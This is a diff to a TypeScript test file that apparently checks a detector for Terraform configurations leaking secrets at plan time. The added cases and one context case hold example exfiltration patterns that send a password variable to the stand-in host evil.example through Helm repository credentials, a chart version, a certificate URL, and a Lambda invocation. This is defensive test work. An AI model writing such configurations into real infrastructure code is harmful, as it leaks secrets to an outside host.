@@ -233,6 +233,21 @@ test.each<[string, object, RegExp]>([
     /helm_release\.a\.repository is computed/,
   ],
   [
+    'a secret that signs in where a chart comes from',
+    { resource: { helm_release: { a: { chart: 'x', repository: 'https://evil.example', repository_password: '${var.password}' } } } },
+    /helm_release\.a\.repository_password is computed/,
+  ],
+  [
+    'a secret in the version of a chart, which stands in the address of an image',
+    { resource: { helm_release: { a: { chart: 'oci://evil.example/x', version: '1.0.0-${var.password}' } } } },
+    /helm_release\.a\.version is computed/,
+  ],
+  [
+    'a function of the account, which runs while planning',
+    { data: { aws_lambda_invocation: { a: { function_name: 'send', input: '${var.password}' } } } },
+    /aws_lambda_invocation\.a runs a program/,
+  ],
+  [
     'a secret in an address that is asked for its certificate',
     { data: { tls_certificate: { a: { url: 'https://${var.password}.evil.example' } } } },
     /tls_certificate\.a\.url is computed/,
